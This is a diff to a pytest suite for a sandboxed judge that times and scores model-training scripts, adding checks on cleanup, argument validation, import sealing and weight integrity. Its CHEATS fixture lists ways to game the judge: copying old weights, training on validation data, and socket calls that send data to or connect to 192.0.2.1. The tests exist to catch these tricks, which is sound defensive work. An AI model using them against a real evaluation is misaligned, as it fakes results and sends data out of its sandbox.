@@ -4,7 +4,9 @@ import io
 import json
 import shutil
 import sys
+import tempfile
 import time
+from pathlib import Path
 from types import SimpleNamespace
 
 import numpy as np
@@ -117,6 +119,7 @@ CHEATS = {
     "copied by a program": "import subprocess; subprocess.run(['cp', OLD, sys.argv[-1]], check=True)",
     "training on valid": "open(OLD.replace('old.pt', 'data/packed/shapes10/valid-images.npy')); save()",
     "the whole data set": "from lab_utils import data; data.load(root=OLD.replace('old.pt', 'data')); save()",
+    "sent": "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'give', ('192.0.2.1', 80)); save()",
     "downloaded": "import socket; socket.create_connection(('192.0.2.1', 80), timeout=1); save()",
 }
 
@@ -142,6 +145,7 @@ def test_the_judges_clock_is_the_only_one(run):
         "os.utime(sys.argv[-1], (1, 1))\n"
     )
     assert lap["seconds"] > 2.1
+    assert not list(Path(tempfile.gettempdir()).glob(f"lap-{lap['lap']}*")), "no scratch folder stays"
 
 
 def test_nobody_reports_an_accuracy_of_his_own(run):
@@ -192,18 +196,65 @@ def test_a_script_that_fails_says_where(home, run):
 
 
 def test_code_is_text_and_short(home, write):
-    for content in (b"\xff\xfe weights", b"#" * 70_000):
+    for content in (b"\xff\xfe weights", b"#" * 20_000):
         path = write("race.py", "")
         path.write_bytes(content)
-        with pytest.raises(LabError, match="64 KiB"):
+        with pytest.raises(LabError, match="16 KiB"):
             race.run_lap(path, within=5)
 
 
 def test_what_a_killed_judge_left_is_taken_away(home, run):
     (home / "1127-000000-abcdef" / "run" / "data").mkdir(parents=True)
-    (home / "mine").mkdir()
+    (home / "mine" / "run").mkdir(parents=True)
     lap = run("save()")
     assert {path.name for path in home.iterdir()} == {".lock", "mine", lap["lap"]}
+
+
+def test_what_no_record_could_hold_is_refused_before_it_runs(home, write):
+    script = write("race.py", "")
+    for words, arguments, options in (
+        ("These arguments cannot race", ["x" * 3000], {}),
+        ("These arguments cannot race", "--epochs", {}),
+        ("A lap of 0 s is none", [], {"within": 0}),
+        ("A lap of nan s is none", [], {"within": float("nan")}),
+        ("cannot race.*No such file", [], {"files": [home / "no.py"]}),
+        ("cannot race.*directory", [], {"files": [home.parent]}),
+        ("cannot race.*other characters", [], {"files": [write("a b.py", "")]}),
+    ):
+        with pytest.raises(LabError, match=f"(?s){words}"):
+            race.run_lap(script, arguments, **{"within": 5, **options})
+    assert not home.exists()
+
+
+def test_a_name_that_torch_imports_is_not_imported_before_the_seal(home, runs, write):
+    """torchrun itself, which is not sealed, has the folder of the script before all that is installed."""
+    text = "from pathlib import Path\nPath(MARK).write_text('unsealed')\n".replace("MARK", repr(str(runs / "mark")))
+    script = write("typing_extensions.py", text)
+    with pytest.raises(LabError, match="PermissionError"):
+        race.run_lap(script, within=30, show=False)
+    assert not (runs / "mark").exists()
+
+
+def test_weights_that_were_lost_or_changed_on_the_way_are_no_result(home, run, monkeypatch):
+    write = drive.Path.write_bytes
+
+    def fail(path, content):
+        if path.name == "000001.pt":
+            raise OSError(28, "No space left on device")
+        return write(path, content)
+
+    with monkeypatch.context() as patch:
+        patch.setattr(drive.Path, "write_bytes", fail)
+        with pytest.raises(LabError, match=r"(?s)Saved weights were lost.*No space left"):
+            run("save(); time.sleep(0.5); save(1)")
+    with monkeypatch.context() as patch:
+        turn = {".pt": -1}
+        patch.setattr(
+            drive.Path, "write_bytes", lambda path, content: write(path, content[:: turn.get(path.suffix, 1)])
+        )
+        with pytest.raises(LabError, match="changed after the judge saw them"):
+            run("save()")
+    assert [path.name for path in home.iterdir()] == [".lock"]
 
 
 def test_two_laps_at_once_would_slow_each_other(home, run):
@@ -270,9 +321,9 @@ def test_of_many_versions_some_are_kept_and_the_last(tmp_path, monkeypatch):
     stream = io.BytesIO(b"".join(b"1\n%d" % number for number in range(10)))
     follower = drive._Follower(tmp_path)
     follower.follow(SimpleNamespace(stdout=stream))
-    kept = [path.read_bytes() for _, path in follower.versions]
+    kept = [path.read_bytes() for _, path, _ in follower.versions]
     assert kept[-1] == b"9" and len(kept) <= 4 and sorted(kept) == kept
-    assert sorted(tmp_path.iterdir()) == [path for _, path in follower.versions]
+    assert sorted(tmp_path.iterdir()) == [path for _, path, _ in follower.versions]
 
 
 @pytest.mark.parametrize(
